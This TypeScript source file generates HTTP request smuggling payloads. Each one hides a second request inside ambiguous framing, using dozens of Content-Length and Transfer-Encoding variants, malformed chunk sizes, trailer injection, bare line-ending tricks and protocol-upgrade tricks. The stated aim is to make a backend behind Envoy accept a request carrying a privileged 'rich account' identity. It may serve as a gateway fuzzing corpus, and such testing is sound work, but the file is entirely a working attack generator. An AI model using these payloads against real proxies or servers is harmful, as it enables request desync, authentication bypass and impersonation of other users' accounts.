/**
 * Requests whose length can be read in two ways, each with a second request hidden where one of the readings ends.
 *
 * Two readers that disagree on a length are what smuggling lives on; the hidden request carries the identity of a rich
 * account, which only something behind Envoy could believe.
 */

export interface Carrier {
  /** Request line, host and key, each with its end of line. */
  readonly head: string;
  /** A whole request. */
  readonly hidden: string;
}

export interface Framing {
  readonly name: string;
  readonly write: (carrier: Carrier) => string;
}

const size = (text: string): string => text.length.toString(16);
const chunk = (text: string, extension = ''): string => `${size(text)}${extension}\r\n${text}\r\n`;
const lastChunk = '0\r\n\r\n';

/** Two lengths: the hidden request is the body for one reader, and the next request for the other. */
const twoLengths = (name: string, lines: (length: number) => string): Framing => ({
  name,
  write: ({ head, hidden }) => {
    const body = `${lastChunk}${hidden}`;
    return `${head}${lines(body.length)}\r\n${body}`;
  },
});

/** The same the other way: what is one chunk for one reader ends early for the other. */
const shortLength = (name: string, lines: (length: number) => string): Framing => ({
  name,
  write: ({ head, hidden }) => {
    const chunks = `${chunk(hidden)}${lastChunk}`;
    return `${head}${lines(chunks.indexOf('\r\n') + 2)}\r\n${chunks}`;
  },
});

const both = [
  (te: string) =>
    twoLengths(`length and chunks: ${JSON.stringify(te)}`, (length) => `Content-Length: ${length}\r\n${te}`),
  (te: string) =>
    shortLength(`chunks and length: ${JSON.stringify(te)}`, (length) => `Content-Length: ${length}\r\n${te}`),
];

/** Spellings of a header that one reader takes for chunks and another passes over. */
const chunkedSpellings = [
  'Transfer-Encoding: chunked\r\n',
  'Transfer-Encoding: xchunked\r\n',
  'Transfer-Encoding: CHUNKED\r\n',
  'Transfer-Encoding : chunked\r\n',
  'Transfer-Encoding:\tchunked\r\n',
  'Transfer-Encoding:chunked\r\n',
  'Transfer-Encoding: chunked \r\n',
  'Transfer-Encoding: \x0bchunked\r\n',
  'Transfer-Encoding: chunked\x00\r\n',
  'Transfer-Encoding: "chunked"\r\n',
  'Transfer-Encoding: chunked;q=1\r\n',
  'Transfer-Encoding: chunked, identity\r\n',
  'Transfer-Encoding: identity, chunked\r\n',
  'Transfer-Encoding: identity\r\n',
  'Transfer-Encoding: gzip, chunked\r\n',
  'Transfer-Encoding:\r\n chunked\r\n',
  'Transfer-Encoding\r\n : chunked\r\n',
  ' Transfer-Encoding: chunked\r\n',
  'X: y\nTransfer-Encoding: chunked\r\n',
  'X: y\rTransfer-Encoding: chunked\r\n',
  'Transfer_Encoding: chunked\r\n',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n',
  'Transfer-Encoding: identity\r\nTransfer-encoding: chunked\r\n',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n',
  'X: y\r\n Transfer-Encoding: chunked\r\n',
];

/** Spellings of a length of which one reader may see another number, or none. */
const lengthSpellings: readonly ((length: number) => string)[] = [
  (length) => `Content-Length: 0\r\nContent-Length: ${length}\r\n`,
  (length) => `Content-Length: ${length}\r\nContent-Length: 0\r\n`,
  (length) => `Content-Length: ${length}\r\nContent-Length: ${length}\r\n`,
  (length) => `Content-Length: 0, ${length}\r\n`,
  (length) => `Content-Length: ${length}, ${length}\r\n`,
  (length) => `Content-Length: +${length}\r\n`,
  (length) => `Content-Length: 0x${length.toString(16)}\r\n`,
  (length) => `Content-Length: ${length}.0\r\n`,
  (length) => `Content-Length: ${length} 0\r\n`,
  (length) => `Content-Length: ${length}\x00\r\n`,
  (length) => `Content-Length : ${length}\r\n`,
  (length) => `Content-Length:\r\n ${length}\r\n`,
  (length) => `Content_Length: ${length}\r\n`,
  (length) => ` Content-Length: ${length}\r\n`,
  (length) => `X: y\nContent-Length: ${length}\r\n`,
  () => 'Content-Length: \r\n',
  () => 'Content-Length: -1\r\n',
  () => 'Content-Length: 18446744073709551616\r\n',
  () => 'Content-Length: 0\r\n',
  () => '',
];

const inChunks = (name: string, body: (hidden: string) => string): Framing => ({
  name: `chunks: ${name}`,
  write: ({ head, hidden }) => `${head}Transfer-Encoding: chunked\r\n\r\n${body(hidden)}`,
});

const chunkTricks: readonly Framing[] = [
  inChunks('an extension', (hidden) => `${chunk(hidden, ';a=b')}${lastChunk}`),
  inChunks('an extension with the end of the chunks', (hidden) => `${chunk('x', ';\r\n0\r\n\r\n')}${hidden}`),
  inChunks('a bare line feed in an extension', (hidden) => `1;\nx\r\n0\r\n\r\n${hidden}`),
  inChunks('bare line feeds', (hidden) => `1\nx\n0\n\n${hidden}`),
  inChunks('a bare carriage return', (hidden) => `1\rx\r0\r\r${hidden}`),
  inChunks('a size that overflows', (hidden) => `10000000000000001\r\nx\r\n0\r\n\r\n${hidden}`),
  inChunks('a size with 0x', (hidden) => `0x${chunk(hidden)}${lastChunk}`),
  inChunks('a negative size', (hidden) => `-1\r\n${hidden}`),
  inChunks('a size with a plus', (hidden) => `+${chunk(hidden)}${lastChunk}`),
  inChunks('a size with a space', (hidden) => ` ${chunk(hidden)}${lastChunk}`),
  inChunks('a size with underscores', (hidden) => `0_1\r\nx\r\n0\r\n\r\n${hidden}`),
  inChunks('no size', (hidden) => `\r\n${hidden}`),
  inChunks('more than its size', (hidden) => `1\r\n${hidden}\r\n${lastChunk}`),
  inChunks('no end of line behind a chunk', (hidden) => `1\r\nx0\r\n\r\n${hidden}`),
  inChunks('a size of many zeros', (hidden) => `${'0'.repeat(40)}\r\n\r\n${hidden}`),
  inChunks('trailers', () => '0\r\nX-GW-Account-Id: acct_demo_enterprise\r\nAuthorization: Bearer x\r\n\r\n'),
  inChunks('a request in the trailers', (hidden) => `0\r\n${hidden}`),
  inChunks('a key in the trailers', (hidden) => `0\r\nContent-Length: ${hidden.length}\r\n\r\n${hidden}`),
];

/** The head itself ends twice, or not where it seems to. */
const headTricks: readonly Framing[] = [
  { name: 'head: the next request at once', write: ({ head, hidden }) => `${head}\r\n${hidden}` },
  { name: 'head: empty lines between', write: ({ head, hidden }) => `${head}\r\n\r\n\r\n${hidden}` },
  { name: 'head: bare line feeds', write: ({ head, hidden }) => `${head}\n${hidden}` },
  { name: 'head: a bare carriage return', write: ({ head, hidden }) => `${head}\r${hidden}` },
  { name: 'head: a value with a carriage return', write: ({ head, hidden }) => `${head}X: y\r\r\n\r\n${hidden}` },
  { name: 'head: a folded request', write: ({ head, hidden }) => `${head}X: y\r\n ${hidden}` },
  { name: 'head: a request in a value', write: ({ head, hidden }) => `${head}X: ${hidden}` },
  { name: 'head: a name without a colon', write: ({ head, hidden }) => `${head}X\r\n\r\n${hidden}` },
  { name: 'head: a colon in front', write: ({ head, hidden }) => `${head}: y\r\n\r\n${hidden}` },
  {
    name: 'head: waits for 100 Continue',
    write: ({ head, hidden }) => `${head}Expect: 100-continue\r\nContent-Length: ${hidden.length}\r\n\r\n${hidden}`,
  },
  {
    name: 'head: an upgrade to HTTP/2',
    write: ({ head, hidden }) =>
      `${head}Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\nPRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${hidden}`,
  },
  {
    name: 'head: an upgrade to WebSockets',
    write: ({ head, hidden }) =>
      `${head}Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n\r\n${hidden}`,
  },
  {
    name: 'head: an upgrade with a body',
    write: ({ head, hidden }) =>
      `${head}Connection: Upgrade\r\nUpgrade: TLS/1.0\r\nContent-Length: ${hidden.length}\r\n\r\n${hidden}`,
  },
];

export const framings: readonly Framing[] = [
  ...chunkedSpellings.flatMap((te) => both.map((make) => make(te))),
  ...lengthSpellings.map((lines) => ({
    name: `length: ${JSON.stringify(lines(9))}`,
    write: ({ head, hidden }: Carrier) => `${head}${lines(hidden.length)}\r\n${hidden}`,
  })),
  ...chunkTricks,
  ...headTricks,
];
